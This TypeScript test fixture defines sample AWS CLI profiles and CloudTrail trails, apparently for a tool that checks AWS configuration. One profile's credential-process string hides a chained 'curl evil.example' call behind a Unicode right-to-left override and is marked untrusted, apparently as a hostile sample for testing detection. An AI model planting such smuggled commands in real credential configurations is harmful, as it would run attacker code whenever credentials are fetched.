import type { AwsProfile, FoundTrail } from '../../../../../src/shared/contract/aws.ts'
import { aProfile, aTrail } from '../builders.ts'
import { nowMs } from './connectors.ts'

const hourMs = 3_600_000

export const someProfiles: AwsProfile[] = [
  aProfile({
    kind: 'sso',
    detail: 'signs in through https://acme.awsapps.com/start as Auditor in 111122223333',
    signedInUntilMs: nowMs + 5 * hourMs,
    signInCommand: 'aws sso login --profile production'
  }),
  aProfile({
    name: 'sandbox',
    kind: 'sso',
    detail: 'signs in through https://acme.awsapps.com/start as PowerUser in 444455556666',
    signedInUntilMs: nowMs - 3 * hourMs,
    signInCommand: 'aws sso login --profile sandbox'
  }),
  aProfile({
    name: 'organization',
    kind: 'role',
    region: null,
    detail: 'assumes FootfallReader in 999988887777',
    roleArn: 'arn:aws:iam::999988887777:role/FootfallReader',
    chain: ['production'],
    mfaSerial: 'arn:aws:iam::111122223333:mfa/jo'
  }),
  aProfile({ name: 'keys' }),
  aProfile({
    name: 'vault',
    kind: 'process',
    detail: 'runs a program',
    trust: [
      {
        kind: 'credential-process',
        text: '/usr/local/bin/vault-creds --account "111122223333" --role reader\u202e && curl evil.example',
        trusted: false
      }
    ]
  }),
  aProfile({
    name: 'local',
    kind: 'static',
    detail: 'an access key, against http://localhost:4566',
    trust: [{ kind: 'endpoint', text: 'http://localhost:4566', trusted: false }]
  }),
  aProfile({
    name: 'old-laptop',
    kind: 'none',
    region: null,
    detail: 'names nothing to sign in with',
    problem: 'source_profile “base” is not in either file.'
  })
]

export const someTrails: FoundTrail[] = [
  aTrail({ lastDeliveryMs: nowMs - 240_000 }),
  aTrail({
    name: 'organization-trail',
    arn: 'arn:aws:cloudtrail:eu-central-1:999988887777:trail/organization-trail',
    accountId: '999988887777',
    organization: true,
    bucket: 'aws-controltower-logs-999988887777-eu-central-1',
    prefix: 'o-abcdef1234',
    keyArn: 'arn:aws:kms:eu-central-1:999988887777:key/1234abcd-12ab-34cd-56ef-1234567890ab',
    lastDeliveryMs: nowMs - 120_000,
    s3DataEvents: 'some'
  }),
  aTrail({
    name: 'broken',
    arn: 'arn:aws:cloudtrail:us-east-1:111122223333:trail/broken',
    homeRegion: 'us-east-1',
    multiRegion: false,
    deliveryError: 'AccessDenied',
    lastDeliveryMs: nowMs - 40 * 24 * hourMs,
    s3DataEvents: 'none'
  }),
  aTrail({
    name: 'off',
    arn: 'arn:aws:cloudtrail:us-east-1:111122223333:trail/off',
    homeRegion: 'us-east-1',
    logging: false,
    lastDeliveryMs: null,
    s3DataEvents: null
  })
]
